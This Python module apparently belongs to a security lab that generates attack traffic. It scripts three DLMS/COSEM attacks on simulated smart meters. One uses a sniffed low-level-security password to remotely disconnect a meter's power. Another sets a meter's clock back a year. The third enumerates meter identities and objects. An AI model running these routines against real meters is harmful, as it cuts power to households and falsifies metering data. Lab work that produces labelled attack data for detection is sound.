"""Attacks on the smart meters over DLMS/COSEM, from the attacker's address.

All three use the dlms-cosem client (the same library as the head-end) on the TCP wrapper, with
the socket bound to ``site.attacker``. The attacker's AARQs carry the library's default kind of
system title (``uti`` + 5 bytes, fixed here for repeatable captures), not the head-end's.

The management client's password is taken as sniffed: low-level security (LLS) sends it in clear
in the ``calling-authentication-value`` of every head-end AARQ, so anyone on the meter network
has it. With it the attacker associates as the management client (wPort 1) from a host that is
not the head-end.

=========================  ==============  ===================================================
scenario                   techniques      on the wire
=========================  ==============  ===================================================
meter_remote_disconnect    T0855           AARQ (wPort 1, LLS), GET control_state,
                                           ACTION disconnect control 0.0.96.3.10.255 method 1
                                           remote_disconnect, GET control_state, RLRQ;
                                           one meter (``site.meters[0]``), left disconnected
meter_clock_manipulation   T0836           AARQ (wPort 1, LLS), GET clock, SET clock
                                           0.0.1.0.0.255 attribute 2 to one year back, GET
                                           clock, RLRQ; one meter (``site.meters[1]``)
meter_enumeration          T0888, T0861    per meter: AARQ as the public client (wPort 16, no
                                           security), GET logical device name, serial,
                                           firmware, the association's object_list, then GET
                                           attribute 2 of 30 well-known OBIS codes (most
                                           answered read-write-denied or object-undefined),
                                           RLRQ; then an AARQ as the management client
                                           without authentication (rejected:
                                           authentication-required); every meter
=========================  ==============  ===================================================
"""

from __future__ import annotations

import asyncio
from datetime import timedelta
from typing import Any

from dlms_cosem import cosem, dlms_data  # type: ignore[import-untyped, unused-ignore]
from dlms_cosem import enumerations as enums  # type: ignore[import-untyped, unused-ignore]
from dlms_cosem import exceptions as dlms_exceptions  # type: ignore[import-untyped, unused-ignore]
from dlms_cosem.parsers import (  # type: ignore[import-untyped, unused-ignore]
    AssociationObjectListParser,
)

from lab.base import LabSite, scenario
from lab.head_end import (
    attribute,
    dlms_session,
    encode_datetime,
    get_attribute,
    read_clock,
    read_value,
)
from lab.meters import (
    ASSOCIATION,
    CLOCK,
    DISCONNECT_CONTROL,
    FIRMWARE,
    LOGICAL_DEVICE_NAME,
    MANAGEMENT_CLIENT,
    MANAGEMENT_PASSWORD,
    PUBLIC_CLIENT,
    SERIAL_NUMBER,
    obis,
)

#: the attacker's calling-AP-title (dlms-cosem's default prefix ``uti`` + 5 fixed bytes)
ATTACKER_SYSTEM_TITLE = b"uti\x5a\x17\xc3\xe0\x9b"
#: the LLS password read off the head-end's AARQs
SNIFFED_PASSWORD = MANAGEMENT_PASSWORD
TIMEOUT_S = 5.0

#: (class id, OBIS) an enumeration tries: energy, power and quality registers, profiles, logs,
#: the disconnector, the limiter, communication setup, security and firmware objects
SWEEP: tuple[tuple[int, str], ...] = (
    (1, "0.0.96.1.1.255"),  # device id 2
    (1, "0.0.96.14.0.255"),  # current tariff
    (8, "0.0.1.0.0.255"),  # clock
    (3, "1.0.1.8.0.255"),  # +A
    (3, "1.0.1.8.1.255"),  # +A tariff 1
    (3, "1.0.1.8.2.255"),  # +A tariff 2
    (3, "1.0.2.8.0.255"),  # -A
    (3, "1.0.3.8.0.255"),  # +R
    (3, "1.0.4.8.0.255"),  # -R
    (3, "1.0.1.7.0.255"),  # +P
    (3, "1.0.2.7.0.255"),  # -P
    (3, "1.0.32.7.0.255"),  # voltage L1
    (3, "1.0.52.7.0.255"),  # voltage L2
    (3, "1.0.72.7.0.255"),  # voltage L3
    (3, "1.0.31.7.0.255"),  # current L1
    (3, "1.0.14.7.0.255"),  # frequency
    (5, "1.0.1.4.0.255"),  # demand register +A
    (7, "1.0.99.1.0.255"),  # load profile 1
    (7, "1.0.99.2.0.255"),  # load profile 2
    (7, "0.0.99.98.0.255"),  # standard event log
    (70, "0.0.96.3.10.255"),  # disconnect control
    (71, "0.0.17.0.0.255"),  # limiter
    (20, "0.0.13.0.0.255"),  # activity calendar
    (22, "0.0.15.0.0.255"),  # single action schedule
    (41, "0.0.25.0.0.255"),  # TCP-UDP setup
    (42, "0.0.25.1.0.255"),  # IPv4 setup
    (45, "0.0.25.4.0.255"),  # GPRS modem setup
    (64, "0.0.43.0.0.255"),  # security setup
    (18, "0.0.44.0.0.255"),  # image transfer
    (17, "0.0.41.0.0.255"),  # SAP assignment
)


def _management(site: LabSite, meter: str) -> Any:
    return dlms_session(
        meter,
        site.dlms_port,
        source=site.attacker,
        client_sap=MANAGEMENT_CLIENT,
        password=SNIFFED_PASSWORD,
        system_title=ATTACKER_SYSTEM_TITLE,
        timeout=TIMEOUT_S,
    )


def _disconnect(site: LabSite, meter: str) -> dict[str, Any]:
    with _management(site, meter) as client:
        before = int(read_value(client, 70, DISCONNECT_CONTROL, 3))
        client.action(
            method=_method(70, DISCONNECT_CONTROL, 1), data=dlms_data.IntegerData(0).to_bytes()
        )
        after = int(read_value(client, 70, DISCONNECT_CONTROL, 3))
    return {"control_state_before": before, "control_state_after": after}


def _method(class_id: int, code: str, method: int) -> Any:
    return cosem.CosemMethod(enums.CosemInterface(class_id), obis(code), method)


@scenario(
    "meter_remote_disconnect",
    ("T0855",),
    "dlms",
    "From the attacker's host, associate with a smart meter as the management client with the "
    "LLS password sniffed from the head-end's AARQs, then ACTION the disconnect control object "
    "(class 70, 0.0.96.3.10.255) method 1 remote_disconnect: the household loses power.",
)
async def meter_remote_disconnect(site: LabSite) -> dict[str, Any]:
    """Remote disconnect of one meter (left disconnected)."""
    target = site.meters[0]
    details = await asyncio.to_thread(_disconnect, site, target)
    return {
        "targets": [target],
        "client_sap": MANAGEMENT_CLIENT,
        "authentication": "lls",
        "obis": DISCONNECT_CONTROL,
        "class_id": 70,
        "method": 1,
        **details,
    }


def _shift_clock(site: LabSite, meter: str, shift: timedelta) -> dict[str, Any]:
    with _management(site, meter) as client:
        before = read_clock(client)
        response = client.set(attribute(8, CLOCK, 2), encode_datetime(before + shift))
        after = read_clock(client)
    return {
        "clock_before": before.isoformat(),
        "clock_set_to": (before + shift).isoformat(),
        "clock_after": after.isoformat(),
        "result": enums.DataAccessResult(response.result).name.lower(),
    }


@scenario(
    "meter_clock_manipulation",
    ("T0836",),
    "dlms",
    "From the attacker's host, associate with a smart meter as the management client (sniffed "
    "LLS password) and SET the clock (class 8, 0.0.1.0.0.255, attribute 2) one year back: "
    "load-profile entries and time-of-use registers are then stamped with the wrong time.",
)
async def meter_clock_manipulation(site: LabSite) -> dict[str, Any]:
    """Set one meter's clock a year back."""
    target = site.meters[1 % len(site.meters)]
    details = await asyncio.to_thread(_shift_clock, site, target, timedelta(days=-365))
    return {"targets": [target], "obis": CLOCK, "class_id": 8, "attribute": 2, **details}


def _enumerate(site: LabSite, meter: str) -> dict[str, Any]:
    found: dict[str, Any] = {}
    with dlms_session(
        meter,
        site.dlms_port,
        source=site.attacker,
        client_sap=PUBLIC_CLIENT,
        password=None,
        system_title=ATTACKER_SYSTEM_TITLE,
        timeout=TIMEOUT_S,
    ) as client:
        for key, class_id, code in (
            ("logical_device_name", 1, LOGICAL_DEVICE_NAME),
            ("serial", 1, SERIAL_NUMBER),
            ("firmware", 1, FIRMWARE),
        ):
            found[key] = bytes(read_value(client, class_id, code)).decode("ascii", "replace")
        object_list = AssociationObjectListParser.parse_bytes(
            client.get(attribute(15, ASSOCIATION, 2))
        )
        found["object_list"] = [
            f"{item.interface}/{item.logical_name.to_string(separator='.')}" for item in object_list
        ]
        answers: dict[str, str] = {}
        for class_id, code in SWEEP:
            result = get_attribute(client, class_id, code, 2)
            answers[f"{class_id}/{code}"] = (
                "read" if isinstance(result, bytes) else enums.DataAccessResult(result).name.lower()
            )
        found["sweep"] = answers
    try:  # is the management association open without a password?
        with dlms_session(
            meter,
            site.dlms_port,
            source=site.attacker,
            client_sap=MANAGEMENT_CLIENT,
            password=None,
            system_title=ATTACKER_SYSTEM_TITLE,
            timeout=TIMEOUT_S,
        ):
            found["management_association"] = "accepted without authentication"
    except dlms_exceptions.DlmsClientException:
        found["management_association"] = "rejected"
    return found


@scenario(
    "meter_enumeration",
    ("T0888", "T0861"),
    "dlms",
    "From the attacker's host, associate with every meter as the public client (no security), "
    "read its identity (logical device name, serial, firmware) and the association's object "
    "list, GET 30 well-known OBIS codes to map which points exist, then try the management "
    "association without a password.",
)
async def meter_enumeration(site: LabSite) -> dict[str, Any]:
    """Identify every meter and map its COSEM objects."""
    meters: dict[str, Any] = {}
    for meter in site.meters:
        meters[meter] = await asyncio.to_thread(_enumerate, site, meter)
    return {"targets": list(site.meters), "client_sap": PUBLIC_CLIENT, "meters": meters}
